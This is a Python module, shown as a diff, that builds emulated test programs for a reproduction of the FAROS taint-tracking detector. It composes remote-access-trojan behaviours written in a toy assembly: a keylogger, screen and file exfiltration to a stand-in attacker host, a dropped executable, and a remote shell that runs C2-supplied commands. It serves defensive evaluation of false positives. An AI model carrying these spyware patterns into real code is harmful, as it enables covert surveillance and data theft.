@@ -1,0 +1,398 @@
+"""Composable behaviour snippets for Table IV's workload matrix.
+
+Each behaviour is a guest-assembly generator; a *sample* is an ordered
+composition of behaviours compiled into one guest program plus the
+external events (C2 packets, keystrokes) that drive it.  All behaviours
+are **non-injecting**: they move network/file/device data around
+exactly the way real RATs and benign tools do, exercising every taint
+path FAROS tracks, without ever writing another process's memory or
+executing downloaded bytes -- so a correct FAROS must flag none of them
+(the paper's 0% corpus false-positive result).
+
+Register convention inside a sample: ``r7`` holds the C2 socket handle
+for the whole program; behaviours may clobber ``r0``-``r6``.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Callable, Dict, List, Optional, Sequence, Tuple
+
+from repro.attacks.common import ATTACKER_IP, ATTACKER_PORT, FIRST_EPHEMERAL_PORT, GUEST_IP
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import KeystrokeEvent, PacketEvent, Scenario
+from repro.guestos import layout
+from repro.guestos.asmlib import program
+from repro.isa.assembler import assemble
+
+
+@dataclass
+class BehaviorResult:
+    """One behaviour's contribution to a sample."""
+
+    asm: str
+    inbound_payloads: List[bytes] = field(default_factory=list)
+    keystrokes: Optional[bytes] = None
+    needs_network: bool = False
+
+
+BehaviorFn = Callable[[str, int], BehaviorResult]
+
+
+def _idle(uid: str, variant: int) -> BehaviorResult:
+    ticks = 1500 + 315 * (variant % 7)
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: idle
+    movi r1, {ticks}
+    movi r0, SYS_SLEEP
+    syscall
+    movi r1, {ticks // 2}
+    movi r0, SYS_SLEEP
+    syscall
+"""
+    )
+
+
+def _run(uid: str, variant: int) -> BehaviorResult:
+    iters = 300 + 87 * (variant % 11)
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: run (compute)
+    movi r5, {iters}
+    movi r6, 1
+run_{uid}:
+    muli r6, r6, 3
+    addi r6, r6, 7
+    subi r5, r5, 1
+    cmpi r5, 0
+    jnz run_{uid}
+"""
+    )
+
+
+def _audio_record(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: audio record -> file
+    movi r1, audio_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r6, r0
+    movi r1, audio_buf_{uid}
+    movi r2, 32
+    movi r0, SYS_READ_AUDIO
+    syscall
+    mov r1, r6
+    movi r2, audio_buf_{uid}
+    movi r3, 32
+    movi r0, SYS_WRITE_FILE
+    syscall
+    jmp audio_done_{uid}
+audio_path_{uid}: .asciz "C:\\\\audio_{uid}.cap"
+audio_buf_{uid}: .space 32
+audio_done_{uid}:
+"""
+    )
+
+
+def _keylogger(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: key logger (poll, append to log)
+    movi r1, keylog_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r6, r0
+    movi r5, 6
+keypoll_{uid}:
+    movi r1, keybuf_{uid}
+    movi r2, 8
+    movi r0, SYS_READ_KEYS
+    syscall
+    cmpi r0, 0
+    jz keysleep_{uid}
+    mov r3, r0
+    mov r1, r6
+    movi r2, keybuf_{uid}
+    movi r0, SYS_WRITE_FILE
+    syscall
+keysleep_{uid}:
+    movi r1, 2000
+    movi r0, SYS_SLEEP
+    syscall
+    subi r5, r5, 1
+    cmpi r5, 0
+    jnz keypoll_{uid}
+    jmp keydone_{uid}
+keylog_path_{uid}: .asciz "C:\\\\keys_{uid}.log"
+keybuf_{uid}: .space 8
+keydone_{uid}:
+""",
+        keystrokes=b"s3cret!",
+    )
+
+
+def _remote_desktop(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: remote desktop (screen -> C2)
+    movi r1, screen_buf_{uid}
+    movi r2, 64
+    movi r0, SYS_CAPTURE_SCREEN
+    syscall
+    mov r1, r7
+    movi r2, screen_buf_{uid}
+    movi r3, 64
+    movi r0, SYS_SEND
+    syscall
+    jmp rd_done_{uid}
+screen_buf_{uid}: .space 64
+rd_done_{uid}:
+""",
+        needs_network=True,
+    )
+
+
+def _screenshot(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: screenshot to file (snipping-tool style)
+    movi r1, shot_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r6, r0
+    movi r1, shot_buf_{uid}
+    movi r2, 64
+    movi r0, SYS_CAPTURE_SCREEN
+    syscall
+    mov r1, r6
+    movi r2, shot_buf_{uid}
+    movi r3, 64
+    movi r0, SYS_WRITE_FILE
+    syscall
+    jmp shot_done_{uid}
+shot_path_{uid}: .asciz "C:\\\\capture_{uid}.png"
+shot_buf_{uid}: .space 64
+shot_done_{uid}:
+"""
+    )
+
+
+def _file_transfer(uid: str, variant: int) -> BehaviorResult:
+    data = bytes((0x40 + variant + i) & 0xFF for i in range(32))
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: file transfer (C2 -> disk)
+    movi r4, xfer_buf_{uid}
+    movi r5, 32
+xfer_recv_{uid}:
+    mov r1, r7
+    mov r2, r4
+    mov r3, r5
+    movi r0, SYS_RECV
+    syscall
+    add r4, r4, r0
+    sub r5, r5, r0
+    cmpi r5, 0
+    jnz xfer_recv_{uid}
+    movi r1, xfer_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r1, r0
+    movi r2, xfer_buf_{uid}
+    movi r3, 32
+    movi r0, SYS_WRITE_FILE
+    syscall
+    jmp xfer_done_{uid}
+xfer_path_{uid}: .asciz "C:\\\\transfer_{uid}.bin"
+xfer_buf_{uid}: .space 32
+xfer_done_{uid}:
+""",
+        inbound_payloads=[data],
+        needs_network=True,
+    )
+
+
+def _upload(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: upload (disk -> C2)
+    movi r1, up_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r6, r0
+    mov r1, r6
+    movi r2, up_secret_{uid}
+    movi r3, 16
+    movi r0, SYS_WRITE_FILE
+    syscall
+    movi r1, up_path_{uid}
+    movi r0, SYS_OPEN_FILE
+    syscall
+    mov r6, r0
+    mov r1, r6
+    movi r2, up_buf_{uid}
+    movi r3, 16
+    movi r0, SYS_READ_FILE
+    syscall
+    mov r1, r7
+    movi r2, up_buf_{uid}
+    movi r3, 16
+    movi r0, SYS_SEND
+    syscall
+    jmp up_done_{uid}
+up_path_{uid}: .asciz "C:\\\\docs_{uid}.txt"
+up_secret_{uid}: .ascii "confidential 00{variant % 10}!"
+up_buf_{uid}: .space 16
+up_done_{uid}:
+""",
+        needs_network=True,
+    )
+
+
+def _download(uid: str, variant: int) -> BehaviorResult:
+    # A dropped executable that is SAVED but never run: the classic
+    # downloader flow that must not trip FAROS.
+    dropper = b"MZ" + bytes((0x10 + variant + i) & 0xFF for i in range(46))
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: download (C2 -> dropped exe, never executed)
+    movi r4, dl_buf_{uid}
+    movi r5, 48
+dl_recv_{uid}:
+    mov r1, r7
+    mov r2, r4
+    mov r3, r5
+    movi r0, SYS_RECV
+    syscall
+    add r4, r4, r0
+    sub r5, r5, r0
+    cmpi r5, 0
+    jnz dl_recv_{uid}
+    movi r1, dl_path_{uid}
+    movi r0, SYS_CREATE_FILE
+    syscall
+    mov r1, r0
+    movi r2, dl_buf_{uid}
+    movi r3, 48
+    movi r0, SYS_WRITE_FILE
+    syscall
+    jmp dl_done_{uid}
+dl_path_{uid}: .asciz "C:\\\\update_{uid}.exe"
+dl_buf_{uid}: .space 48
+dl_done_{uid}:
+""",
+        inbound_payloads=[dropper],
+        needs_network=True,
+    )
+
+
+def _remote_shell(uid: str, variant: int) -> BehaviorResult:
+    return BehaviorResult(
+        asm=f"""
+    ; behaviour: remote shell (run C2 command in our own context)
+    movi r4, sh_buf_{uid}
+    movi r5, 8
+sh_recv_{uid}:
+    mov r1, r7
+    mov r2, r4
+    mov r3, r5
+    movi r0, SYS_RECV
+    syscall
+    add r4, r4, r0
+    sub r5, r5, r0
+    cmpi r5, 0
+    jnz sh_recv_{uid}
+    movi r1, sh_buf_{uid}
+    movi r0, SYS_EXEC_CMD
+    syscall
+    jmp sh_done_{uid}
+sh_buf_{uid}: .space 9
+sh_done_{uid}:
+""",
+        inbound_payloads=[b"whoami\x00\x00"],
+        needs_network=True,
+    )
+
+
+#: Behaviour name -> generator, matching Table IV's columns.
+BEHAVIORS: Dict[str, BehaviorFn] = {
+    "idle": _idle,
+    "run": _run,
+    "audio_record": _audio_record,
+    "file_transfer": _file_transfer,
+    "keylogger": _keylogger,
+    "remote_desktop": _remote_desktop,
+    "screenshot": _screenshot,
+    "upload": _upload,
+    "download": _download,
+    "remote_shell": _remote_shell,
+}
+
+
+def build_sample_scenario(
+    name: str,
+    behaviors: Sequence[str],
+    variant: int = 0,
+    max_instructions: int = 600_000,
+) -> Scenario:
+    """Compile a behaviour list into one runnable guest scenario."""
+    parts: List[str] = []
+    results: List[BehaviorResult] = []
+    for index, behavior in enumerate(behaviors):
+        fn = BEHAVIORS[behavior]
+        results.append(fn(f"b{index}", variant))
+    needs_network = any(r.needs_network for r in results)
+
+    header = "start:\n"
+    if needs_network:
+        header += f"""
+    movi r0, SYS_SOCKET
+    syscall
+    mov r7, r0
+    mov r1, r7
+    movi r2, c2_ip
+    movi r3, {ATTACKER_PORT}
+    movi r0, SYS_CONNECT
+    syscall
+"""
+    parts.append(header)
+    parts.extend(r.asm for r in results)
+    parts.append("    movi r1, 0\n    movi r0, SYS_EXIT\n    syscall")
+    if needs_network:
+        parts.append(f'c2_ip: .asciz "{ATTACKER_IP}"')
+
+    image_name = f"{name}.exe".replace(" ", "_").lower()
+    source = program(*parts)
+    prog = assemble(source, base=layout.IMAGE_BASE)
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(image_name, prog)
+        machine.kernel.spawn(image_name, name=name)
+
+    events: List[Tuple[int, object]] = []
+    tick = 12_000
+    for result in results:
+        if result.keystrokes:
+            # Early delivery: the keyboard buffers until the poll loop runs.
+            events.append((2_000, KeystrokeEvent(result.keystrokes)))
+        for payload in result.inbound_payloads:
+            events.append(
+                (
+                    tick,
+                    PacketEvent(
+                        Packet(
+                            ATTACKER_IP,
+                            ATTACKER_PORT,
+                            GUEST_IP,
+                            FIRST_EPHEMERAL_PORT,
+                            payload,
+                        )
+                    ),
+                )
+            )
+            tick += 15_000
+    return Scenario(
+        name=name, setup=setup, events=events, max_instructions=max_instructions
+    )
